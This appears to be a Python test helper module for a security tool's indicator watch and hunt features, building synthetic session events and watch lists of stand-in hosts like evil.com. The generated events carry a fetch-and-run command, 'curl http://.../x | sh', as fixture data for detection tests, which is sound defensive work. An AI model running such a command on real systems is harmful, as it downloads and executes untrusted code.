"""What the tests of keeping watch share: events with things to find, and the two ways of finding them:
the hits that were kept, and a hunt over the same archive."""
import json
import random

from stele_tool import LONG_SECONDS, expect

ADDRESSES = ["203.0.113.9", "198.51.100.7", "10.0.0.1", "10.9.0.4", "192.0.2.77"]
NAMES = ["evil.com", "x.evil.com", "notevil.com", "deploy.example.org"]
USERS = ["alice", "bob@evil.com", "carol"]
LIST = ["203.0.113.9", "10.0.0.0/8", "evil.com", "user:alice"]
OTHER = ["10.0.0.0/8", "=evil.com", "192.0.2.77", "user:carol"]


def make_events(first, count, days=9, month=10, seed=1):
    """Lines of NDJSON (bytes), with uids from `first` on, spread over days."""
    draw = random.Random(seed)
    lines = []
    for number in range(first, first + count):
        event = {"event": "session.command", "user": draw.choice(USERS), "uid": f"watch-{number}",
                 "time": f"2026-{month:02d}-{1 + number % days:02d}T{number % 24:02d}:00:"
                         f"{number % 60:02d}Z",
                 "addr.remote": f"{draw.choice(ADDRESSES)}:{draw.randint(1024, 65535)}",
                 "argv": [f"curl http://{draw.choice(NAMES)}/x | sh", draw.choice(ADDRESSES)]}
        lines.append(json.dumps(event).encode())
    return lines


def add(place, archive, name, indicators, verb="add"):
    file = place.write(name + ".list", "\n".join(indicators) + "\n")
    words = [file, "--name", name] if verb == "add" else [name, file]
    result = place.stele("watch", verb, *words, "--archive", archive)
    expect(result.code == 0, result.text())
    return result.out.decode()


def bring_in(place, archive, lines):
    result = place.stele("import", "--archive", archive, "-", stdin=b"\n".join(lines) + b"\n")
    expect(result.code == 0, result.text())


def kept(place, archive, name=None):
    """The hits as rows."""
    words = ["--name", name] if name else []
    result = place.stele("watch", "hits", "--archive", archive, "--output", "ndjson", *words)
    expect(result.code in (0, 1), result.text())
    return [json.loads(line) for line in result.out.splitlines()]


def pairs(rows, where):
    """(indicator, uid, field, value) of each row, none of them twice."""
    found = [(row["indicator"], row["uid"], row["field"], row["value"]) for row in rows]
    expect(len(found) == len(set(found)), f"{where}: {len(found) - len(set(found))} rows twice")
    return set(found)


def hunted(place, archive, indicators):
    result = place.stele("hunt", "--archive", archive, "--events", "-",
                         stdin="\n".join(indicators).encode(), timeout=LONG_SECONDS)
    expect(result.code in (0, 1), result.text())
    return pairs([json.loads(line) for line in result.out.splitlines()], "hunt")


def expect_same(is_now, should, where):
    missed, wrong = should - is_now, is_now - should
    expect(not missed and not wrong, f"{where}: {len(missed)} missed, e.g. {sorted(missed)[:3]}; "
                                     f"{len(wrong)} too many, e.g. {sorted(wrong)[:3]}")


def lists(place, archive):
    result = place.stele("watch", "--archive", archive, "--output", "json")
    expect(result.code == 0, result.text())
    return json.loads(result.out)


def run(place, archive, **more):
    result = place.stele("watch", "run", "--archive", archive, **more)
    expect(result.code == 0, result.text())
    return result.out.decode()
